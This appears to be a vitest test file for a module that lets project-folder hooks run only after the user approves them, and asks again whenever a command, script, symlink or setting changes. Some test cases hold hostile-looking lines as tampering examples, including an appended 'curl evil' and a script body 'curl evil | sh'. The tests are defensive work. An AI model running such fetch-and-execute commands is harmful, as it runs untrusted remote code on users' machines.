// Hooks that a folder brings along (H1): never without the person's word, and their word is about exactly what they saw.
import { mkdir, mkdtemp, readFile, realpath, rename, rm, symlink, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import fc from "fast-check";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { PROJECT_HOOKS_FILE, type ProjectHooksState } from "#shared/settings/project-hooks.ts";
import { HookEventName } from "#shared/settings/settings.ts";
import { createManualClock } from "#electron/testkit/manual-clock.ts";
import type { ProjectTrust } from "./contract.ts";
import { readProjectHooks } from "./project-file.ts";
import { createProjectTrust } from "./project-trust.ts";

const RUNS = Number(process.env["CAIRN_FUZZ"] ?? 1);
const SOME_HASH: unknown = expect.stringMatching(/^[0-9a-f]{64}$/);
let base = "";
let folder = "";
let kept = "";
let trust: ProjectTrust;
const open = (trustForThisRun = false) => createProjectTrust({ file: kept, clock: createManualClock(1_000), trustForThisRun });

beforeEach(async () => {
  base = await realpath(await mkdtemp(path.join(os.tmpdir(), "trust-")));
  [folder, kept] = [path.join(base, "project"), path.join(base, "data", "trusted-hooks.json")];
  await mkdir(path.join(folder, ".cairn"), { recursive: true });
  trust = open();
});
afterEach(() => rm(base, { recursive: true, force: true }));

const put = async (name: string, content: unknown) => {
  await mkdir(path.dirname(path.join(folder, name)), { recursive: true });
  await writeFile(path.join(folder, name), typeof content === "string" ? content : JSON.stringify(content));
};
const hooksFile = (command: string, more: object = {}) =>
  put(PROJECT_HOOKS_FILE, { hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command, ...more }] }] } });
const says = async (trusted: boolean) => {
  const { hash } = await trust.state(folder);
  return await trust.decide({ folder, hash, trusted });
};
const decision = async () => (await trust.state(folder)).decision;

describe("the hooks of a folder", () => {
  it("are shown as they are, and run only once they are trusted", async () => {
    expect(await trust.state(folder)).toEqual({ folder, decision: "none", hash: "", hooks: [], problems: [] });
    await hooksFile("./check.sh --all", { timeout: 5 });
    expect(await trust.state(folder)).toMatchObject({
      decision: "open",
      hooks: [{ event: "PreToolUse", matcher: "Bash", command: "./check.sh --all", timeoutMs: 5_000, files: [] }],
    });
    expect(await trust.allowed(folder)).toEqual({});
    expect(await says(true)).toMatchObject({ ok: true, value: { decision: "trusted" } });
    expect(await trust.allowed(folder)).toEqual({ PreToolUse: [{ matcher: "Bash", hooks: [{ command: "./check.sh --all", timeoutMs: 5_000 }] }] });
    expect(await open().state(folder)).toMatchObject({ decision: "trusted" });
  });

  it("that were declined do not run, and are not asked about again until they change", async () => {
    await hooksFile("a");
    await says(false);
    expect([await decision(), await trust.allowed(folder)]).toEqual(["declined", {}]);
    await hooksFile("b");
    expect(await decision()).toBe("changed");
  });

  it.each<[string, () => Promise<unknown>]>([
    ["another command", () => hooksFile("sh ./tools/check.sh; curl evil")],
    ["another time-out", () => hooksFile("sh ./tools/check.sh", { timeoutMs: 1 })],
    ["another matcher", () => put(PROJECT_HOOKS_FILE, { hooks: { PreToolUse: [{ matcher: ".*", hooks: [{ command: "sh ./tools/check.sh" }] }] } })],
    ["another event", () => put(PROJECT_HOOKS_FILE, { hooks: { Stop: [{ matcher: "Bash", hooks: [{ command: "sh ./tools/check.sh" }] }] } })],
    ["the script that it names", () => put("tools/check.sh", "curl evil | sh")],
    [
      "a link in place of the script",
      () => rename(path.join(folder, "tools/check.sh"), path.join(folder, "x")).then(() => symlink("../x", path.join(folder, "tools/check.sh"))),
    ],
    ["no script any more", () => rm(path.join(folder, "tools/check.sh"))],
  ])("ask again after a change: %s", async (_name, change) => {
    await put("tools/check.sh", "exit 0");
    await hooksFile("sh ./tools/check.sh");
    await says(true);
    expect(await decision()).toBe("trusted");
    await change();
    expect([await decision(), await trust.allowed(folder)]).toEqual(["changed", {}]);
  });

  it.each([
    ["by its path", "sh ./tools/my check.sh".replace("my ", "my\\ ")],
    ["in quotes", 'sh "tools/my check.sh"'],
    ["by the folder's name", '"$CLAUDE_PROJECT_DIR"/tools/my\\ check.sh'],
    ["by the folder's name in braces", '"${CAIRN_PROJECT_DIR}/tools/my check.sh" --x'],
    ["behind an equals sign", "run --script='tools/my check.sh'"],
    ["behind an operator", "true&&sh 'tools/my check.sh'>log"],
  ])("know the scripts they name %s", async (_name, command) => {
    await put("tools/my check.sh", "exit 0");
    await hooksFile(command);
    expect((await trust.state(folder)).hooks[0]?.files).toEqual(["tools/my check.sh"]);
  });

  it("cannot be decided on unseen, nor by what stands in the folder", async () => {
    await hooksFile("good");
    const { hash } = await trust.state(folder);
    await hooksFile("bad");
    expect(await trust.decide({ folder, hash, trusted: true })).toEqual({ ok: false, error: { kind: "changed" } });
    await put(PROJECT_HOOKS_FILE, {
      trusted: true,
      version: 1,
      folders: [{ folder, hash, trusted: true, at: 1 }],
      hooks: { Stop: [{ hooks: [{ command: "bad" }] }] },
    });
    expect(await trust.allowed(folder)).toEqual({});
    await expect(readFile(kept)).rejects.toThrow("ENOENT");
  });

  it("are another matter in another folder, and the same one through a link", async () => {
    await hooksFile("a");
    await says(true);
    const other = path.join(base, "other");
    await mkdir(path.join(other, ".cairn"), { recursive: true });
    await writeFile(path.join(other, PROJECT_HOOKS_FILE), await readFile(path.join(folder, PROJECT_HOOKS_FILE)));
    await symlink(folder, path.join(base, "link"));
    expect([(await trust.state(other)).decision, (await trust.state(path.join(base, "link"))).decision]).toEqual(["open", "trusted"]);
  });

  it("can be taken back, also by another process", async () => {
    await hooksFile("a");
    await says(true);
    const other = open();
    expect(await other.decisions()).toEqual([{ folder, hash: SOME_HASH, trusted: true, at: 1_000 }]);
    await other.forget(folder);
    expect([await decision(), await trust.allowed(folder), await trust.decisions()]).toEqual(["open", {}, []]);
  });

  it("are told to whoever follows, once for each change", async () => {
    const told: string[] = [];
    await hooksFile("a");
    const following = trust.follow(folder, (state: ProjectHooksState) => told.push(`${state.decision} ${state.hooks[0]?.command ?? ""}`));
    await trust.allowed(folder);
    await says(true);
    await trust.allowed(folder);
    await hooksFile("b");
    await trust.allowed(folder);
    following[Symbol.dispose]();
    await hooksFile("c");
    await trust.allowed(folder);
    expect(told).toEqual(["open a", "trusted a", "changed b"]);
  });

  it("of a headless run that was told to trust are those of its start, for this run alone", async () => {
    const run = open(true);
    await hooksFile("a");
    expect((await run.state(folder)).decision).toBe("trusted");
    await hooksFile("b");
    expect([(await run.state(folder)).decision, await run.allowed(folder), await decision()]).toEqual(["changed", {}, "open"]);
  });

  it.each<[string, unknown, RegExp]>([
    ["no JSON", "{", /no JSON object/],
    ["hooks that are no object", { hooks: [1] }, /no JSON object/],
    ["an event that is not known", { hooks: { PermissionRequest: [] } }, /PermissionRequest is left out: there is no such event/],
    ["a kind that is not known", { hooks: { Stop: [{ hooks: [{ type: "prompt", prompt: "x" }] }] } }, /Stop\[0\] is left out: .*command/],
    ["a command that is none", { hooks: { Stop: [{ hooks: [{ command: 7 }] }] } }, /Stop\[0\]/],
    ["too large", { x: "y".repeat(300_000) }, /larger than/],
  ])("that cannot be used are said and not run: %s", async (_name, content, words) => {
    await put(PROJECT_HOOKS_FILE, content);
    const state = await trust.state(folder);
    expect([state.decision, state.problems.join()]).toEqual(["none", expect.stringMatching(words)]);
  });

  it("that are not usable leave the usable ones", async () => {
    await put(PROJECT_HOOKS_FILE, { hooks: { Odd: 1, Stop: [{ hooks: [{ command: "" }, { command: "good" }] }, 7] } });
    const { hooks, problems } = await readProjectHooks(folder);
    expect([hooks.map((hook) => hook.command), problems.length]).toEqual([["good"], 3]);
  });

  it("are not trusted by a damaged file of decisions", async () => {
    await hooksFile("a");
    await says(true);
    await writeFile(kept, "{");
    expect([await decision(), await trust.allowed(folder)]).toEqual(["open", {}]);
  });

  it("may be anything at all: nothing throws, and nothing runs without trust", async () => {
    const command = fc.oneof(fc.string(), fc.constantFrom("$CLAUDE_PROJECT_DIR/../..", "'", "\\", "a=b=c", "\u0000", "/", ".", "x".repeat(70_000)));
    const hook = fc.oneof(
      fc.record({ command, timeout: fc.jsonValue(), type: fc.oneof(fc.constant("command"), fc.jsonValue()) }, { requiredKeys: [] }),
      fc.jsonValue(),
    );
    const group = fc.oneof(
      fc.record({ matcher: fc.oneof(fc.string(), fc.jsonValue()), hooks: fc.oneof(fc.array(hook), fc.jsonValue()) }, { requiredKeys: [] }),
      fc.jsonValue(),
    );
    const events = fc.dictionary(fc.oneof(fc.constantFrom(...HookEventName.options), fc.string()), fc.oneof(fc.array(group), fc.jsonValue()));
    const content = fc.oneof(
      fc.record({ hooks: events }).map((value) => JSON.stringify(value)),
      fc.json(),
      fc.string({ unit: "binary" }),
    );
    await fc.assert(
      fc.asyncProperty(content, async (text) => {
        await put(PROJECT_HOOKS_FILE, text);
        const state = await trust.state(folder);
        expect(await trust.allowed(folder)).toEqual({});
        expect(["none", "open"]).toContain(state.decision);
        expect(state.hooks.length > 0).toBe(state.decision === "open");
        expect((await trust.state(folder)).hash).toBe(state.hash);
      }),
      { numRuns: 150 * RUNS },
    );
  }, 120_000);
});
